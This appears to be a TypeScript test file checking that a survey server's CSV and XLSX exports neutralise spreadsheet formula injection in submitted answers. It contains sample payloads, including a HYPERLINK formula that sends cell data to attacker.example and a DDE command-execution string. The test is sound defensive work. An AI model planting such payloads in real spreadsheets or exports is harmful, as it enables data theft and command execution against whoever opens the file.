/*
 * Formula injection through exports: answers a phone sends are text, and a spreadsheet must never
 * run them. Submissions whose answers start with `=`, `+`, `-`, `@` or a tab go in over OpenRosa,
 * and come out of the CSV export (a ZIP, as the form has a repeat) marked as text (a leading apostrophe) and of the XLSX export as
 * text cells with no formula; answers made only of numbers (a southern coordinate) are left alone.
 */
import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { publishSurvey, submit } from '../../src/submissions/data-fixtures.test-support.js';
import { defaultReadLimits } from '../../src/xlsform/workbook/index.js';
import { openSafeZip } from '../../src/xlsform/workbook/zip.js';
import { describeEachDatabase } from '../support/databases.js';
import { call } from '../support/http.js';
import { useTestServer } from '../support/server.js';
import { createTestUser, testUserSettings, type TestUser } from '../support/test-users.js';

const FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;
const ONLY_NUMBERS = /^[-+0-9.eE ;]+$/;

/** RFC 4180 fields of a CSV text (quoted fields with doubled quotes, CRLF line ends). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') field += text[at];
        else if (text[at + 1] === '"') field += text[(at += 1)];
        else break;
      }
      at += 1;
    } else {
      const end = text.slice(at).search(/,|\r\n/);
      field = end < 0 ? text.slice(at) : text.slice(at, at + end);
      at += field.length;
    }
    record.push(field);
    if (text.startsWith('\r\n', at) || at >= text.length) {
      records.push(record);
      record = [];
      at += 2;
    } else at += 1;
  }
  return records;
}

describeEachDatabase('formula injection through exports', (kind) => {
  const env = useTestServer(kind, testUserSettings);

  let owner: TestUser;
  let exportUrl: (format: string) => string;
  beforeAll(async () => {
    owner = await createTestUser(env(), 'owner');
    const created = await call(`${env().url}/api/v1/projects`, 'POST', owner.headers, { name: 'Formulas' });
    const projectId = created.body.id as number;
    await publishSurvey(env(), projectId, owner);
    for (const formula of FORMULAS) await submit(env(), projectId, owner, { district: formula, note: formula, where: '-1.5 36.8 0 0' });
    exportUrl = (format) => `${env().url}/api/v1/projects/${projectId}/forms/survey/export.${format}`;
  });

  it('marks every answer a spreadsheet would run as a formula as text in CSV, and leaves numbers alone', async () => {
    const response = await fetch(exportUrl('csv'), { headers: owner.headers });
    expect(response.status).toBe(200);
    // The form has a repeat, so the CSV export is a ZIP of one CSV per table.
    const zip = openSafeZip(Buffer.from(await response.arrayBuffer()), defaultReadLimits);
    const [header, ...rows] = csvRecords(Buffer.from(zip.read('survey.csv')).toString('utf8'));
    const district = header!.indexOf('district');
    const where = header!.indexOf('where');
    expect(rows.map((row) => row[district])).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(rows.map((row) => row[where])).toEqual(FORMULAS.map(() => '-1.5 36.8 0 0'));
    for (const field of rows.flat()) expect(!FORMULA_START.test(field) || ONLY_NUMBERS.test(field), JSON.stringify(field)).toBe(true);
  });

  it('writes those answers as text cells, with no formula, in XLSX', async () => {
    const response = await fetch(exportUrl('xlsx'), { headers: owner.headers });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const district = header.indexOf('district') + 1;
    const texts: unknown[] = [];
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) => {
        expect(cell.formula, String(cell.address)).toBeUndefined();
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
      });
      texts.push(row.getCell(district).value);
    });
    expect(texts).toEqual(FORMULAS);
  });
});
